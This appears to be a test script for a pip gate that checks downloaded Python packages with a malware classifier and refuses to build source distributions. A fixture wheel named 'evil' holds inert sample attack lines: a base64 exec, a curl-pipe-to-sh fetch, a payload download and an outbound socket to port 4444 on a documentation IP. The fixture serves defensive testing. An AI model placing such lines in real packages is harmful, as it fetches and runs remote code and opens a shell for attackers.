#!/usr/bin/env bash
# scripts/pip-vet, the pip gate (issue 12 item 4), on local files only (no network): a folder of
# downloaded packages (--dir) and pip's own download from a local index (--no-index
# --find-links), exit statuses 0/1/2/3, SARIF output, specifiers that would make pip build a
# source tree are refused, and an sdist-only project is never built: its setup.py, which would
# leave a marker file, never runs.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/lib-features.sh"
PY=/usr/bin/python3
export PYTHON=$PY PYVET
GATE=scripts/pip-vet
DOM="--domains tests/data/top-domains-mini.csv"
FX=$TMP/fx
bash tests/data/make_fixtures.sh "$FX" basic >/dev/null 2>&1

# a model for verdicts: the synthetic one of t4010 (the suspicious package below is flagged)
make_features "$TMP/syn" 40 40
"$PYVET" train --features "$TMP/syn" --set T+MCF --learner rf --seed 3 --out "$TMP/syn.model" 2>/dev/null
MODEL="--model $TMP/syn.model"

# packages built here: the demo wheel and sdist, and a suspicious wheel (inert text)
W=$TMP/wheels
mkdir -p "$W"
cp "$FX/demo-1.0-py3-none-any.whl" "$FX/demo.tar.gz" "$W/"
"$PY" - "$TMP/evil/evil-0.1-py3-none-any.whl" <<'PY'
import os, sys, zipfile
os.makedirs(os.path.dirname(sys.argv[1]), exist_ok=True)
with zipfile.ZipFile(sys.argv[1], "w") as z:
    z.writestr("evil/__init__.py", "import os, socket, subprocess, base64\n"
               "from urllib.request import urlopen\n"
               "exec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n"
               "subprocess.Popen(['sh', '-c', 'curl http://203.0.113.9/x | sh'])\n"
               "urlopen('http://203.0.113.9/payload').read()\n"
               "socket.socket().connect(('203.0.113.9', 4444))\n")
    z.writestr("evil-0.1.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 0.1\n")
    z.writestr("evil-0.1.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    z.writestr("evil-0.1.dist-info/RECORD", "")
PY
check "fixture wheels built" test -s "$W/demo-1.0-py3-none-any.whl" -a -s "$TMP/evil/evil-0.1-py3-none-any.whl"

gate() { "$GATE" "$@" >"$TMP/out" 2>"$TMP/err"; rc=$?; }

# ---- --dir: already downloaded files ----
# shellcheck disable=SC2086
gate --dir "$W" --no-model $DOM
check "--dir, no verdict asked: exit 0, both packages scanned" sh -c "test $rc -eq 0 && test \$(grep -c 'no verdict' '$TMP/out') -eq 2"
# shellcheck disable=SC2086
gate --dir "$W" $MODEL $DOM --format json
check "--dir with a model: exit 0 as pyvet scan gives for the same files" sh -c "test $rc -eq \$($PYVET scan $MODEL $DOM '$W/demo-1.0-py3-none-any.whl' '$W/demo.tar.gz' >/dev/null 2>&1; echo \$?)"
cp "$TMP/evil/evil-0.1-py3-none-any.whl" "$W/"
# shellcheck disable=SC2086
gate --dir "$W" $MODEL $DOM --format json
check "--dir with the suspicious wheel: exit 1" test $rc -eq 1
check "json: three packages, the suspicious one malicious" "$PY" -c '
import json, sys
L = [json.loads(x) for x in open(sys.argv[1])]
assert len(L) == 3, len(L)
v = {d["package"]["name"]: d["verdict"] for d in L}
assert v["evil"] == "malicious", v' "$TMP/out"
# shellcheck disable=SC2086
gate --dir "$W" $MODEL $DOM --format sarif --out "$TMP/r.sarif"
check "--format sarif --out: exit 1, a SARIF 2.1.0 log with the malicious verdict" sh -c "test $rc -eq 1 && '$PY' -c '
import json, sys
d = json.load(open(sys.argv[1]))
assert d[\"version\"] == \"2.1.0\"
assert any(r[\"ruleId\"] == \"pyvet.malicious-package\" and r[\"level\"] == \"error\" for r in d[\"runs\"][0][\"results\"])
' '$TMP/r.sarif'"
if "$PY" -c 'import jsonschema' 2>/dev/null; then
	"$PY" scripts/check/validate_json.py docs/schemas/sarif-schema-2.1.0.json "$TMP/r.sarif" >"$TMP/v.out" 2>&1
	check "the SARIF log validates against the SARIF 2.1.0 schema" test $? -eq 0
else
	skip "python3-jsonschema missing: SARIF not validated"
fi
mkdir -p "$TMP/bad"
cp "$FX/demo.tar.gz" "$FX/truncated.tar.gz" "$TMP/bad/"
# shellcheck disable=SC2086
gate --dir "$TMP/bad" --no-model $DOM
check "--dir with an unreadable archive: exit 3" test $rc -eq 3
mkdir -p "$TMP/empty"
gate --dir "$TMP/empty" --no-model
check "--dir with no package file: exit 2" test $rc -eq 2

# ---- usage: exit 2 ----
for spec in ./evil-1.0 /tmp/x.tar.gz "https://example.org/x.tar.gz" "evil @ https://example.org/x.tar.gz" \
	"git+https://example.org/x" "-e ." "evil==1.0;" "evil==1.0 --hash=sha256:00"; do
	gate --no-model -- "$spec"
	check "spec '$spec' refused: exit 2" sh -c "test $rc -eq 2 && grep -q 'not a plain requirement specifier' '$TMP/err'"
done
gate --bogus
check "unknown option: exit 2" test $rc -eq 2
gate --dir "$W" demo
check "--dir and a SPEC: exit 2" test $rc -eq 2
PYTHON=/nonexistent/python3 "$GATE" --no-model demo >/dev/null 2>"$TMP/err"
check "no pip: exit 2" test $? -eq 2
gate --help
check "--help: exit 0 and explains the sdist rule" sh -c "test $rc -eq 0 && grep -q 'only-binary' '$TMP/out'"

# ---- SPEC: pip download from a local index (no network) ----
if ! "$PY" -m pip --version >/dev/null 2>&1; then
	skip "python3 -m pip missing (python3-pip): pip download not tested"
	finish
	exit
fi
IDX=$TMP/index
mkdir -p "$IDX"
cp "$FX/demo-1.0-py3-none-any.whl" "$TMP/evil/evil-0.1-py3-none-any.whl" "$IDX/"
# an sdist-only project whose setup.py would leave a marker: pip must never run it
mkdir -p "$TMP/sd/trap-1.0"
printf 'Metadata-Version: 2.1\nName: trap\nVersion: 1.0\n' >"$TMP/sd/trap-1.0/PKG-INFO"
printf 'open(%s, "w").write("ran")\nfrom setuptools import setup\nsetup(name="trap", version="1.0")\n' \
	"'$TMP/MARKER'" >"$TMP/sd/trap-1.0/setup.py"
tar -C "$TMP/sd" -czf "$IDX/trap-1.0.tar.gz" trap-1.0
# shellcheck disable=SC2086
gate --no-index --find-links "$IDX" --keep "$TMP/dl" $MODEL $DOM --format json demo==1.0
check "SPEC demo==1.0 from a local index: exit 0, the wheel downloaded and scanned" \
	sh -c "test $rc -eq 0 -a -s '$TMP/dl/demo-1.0-py3-none-any.whl' && grep -q '\"name\":\"demo\"' '$TMP/out'"
# shellcheck disable=SC2086
gate --no-index --find-links "$IDX" $MODEL $DOM demo evil==0.1
check "SPECs demo evil==0.1: exit 1" test $rc -eq 1
# shellcheck disable=SC2086
gate --no-index --find-links "$IDX" $MODEL $DOM trap==1.0
check "an sdist-only project: exit 3 (no wheel to download)" test $rc -eq 3
check "and its setup.py never ran" test ! -e "$TMP/MARKER"
# shellcheck disable=SC2086
gate --no-index --find-links "$IDX" $MODEL $DOM no-such-project
check "a project that does not exist: exit 3" test $rc -eq 3
finish
